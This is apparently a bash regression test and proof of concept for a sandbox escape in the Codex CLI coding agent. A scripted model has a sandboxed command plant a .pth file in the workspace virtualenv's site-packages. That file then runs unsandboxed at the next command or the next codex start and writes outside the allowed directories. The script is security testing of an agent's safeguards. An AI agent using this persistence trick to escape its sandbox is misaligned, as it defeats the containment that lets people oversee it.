#!/bin/bash
# codex run by a Python inside the workspace (an activated project venv: `#!/usr/bin/env python3`
# picks .venv/bin/python3). A sandboxed command drops a .pth into the venv's site-packages;
# the Python sandbox helper (`sys.executable -I -B -c ...`, -I does not skip site-packages)
# runs it UNSANDBOXED at the very next command; and every later codex start runs it too
# (CODEX_SANDBOX_HELPER= for the compiled helper: then only at the next start).
set -u
. "$(dirname "$0")/harness.sh"
T=$(mktemp -d /var/tmp/f02.XXXXXX)   # outside /tmp: only $T/ws is writable
export HOME=$T/home CODEX_HOME=$T/codexhome
mkdir -p $HOME $T/ws $T/outside
python3 -m venv $T/ws/.venv >/dev/null || { echo "no venv module"; exit 2; }
SP=$($T/ws/.venv/bin/python3 -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')
export PATH=$T/ws/.venv/bin:$PATH VIRTUAL_ENV=$T/ws/.venv    # `source .venv/bin/activate`
export CODEX_SANDBOX_HELPER=${CODEX_SANDBOX_HELPER-python}
PAYLOAD="import os; open('$T/outside/pwned','a').write(open('/proc/self/cmdline','rb').read().replace(bytes(1),bytes(32)).decode(errors='replace')[:120]+chr(10))"
cat > $T/script.json <<EOS
[[{"shell": ["python3", "-c", "open('$SP/zz_evil.pth','w').write(\"$PAYLOAD\\\\n\")"]}],
 [{"shell": ["true"]}],
 [{"text": "ok"}]]
EOS
start_model $T/script.json
cd $T/ws && timeout 90 "$CODEX_BIN" exec --skip-git-repo-check --full-auto "task" >$T/stdout 2>$T/stderr
stop_model
"$CODEX_BIN" --version >/dev/null 2>&1   # the user's next codex start (C helper case: runs here)
echo "--- written outside the writable roots by:"; cat $T/outside/pwned 2>/dev/null
if grep -q . $T/outside/pwned 2>/dev/null; then echo "VULNERABLE: .pth planted by a sandboxed command ran unsandboxed"; rm -rf $T; exit 1; fi
echo fixed; rm -rf $T; exit 0
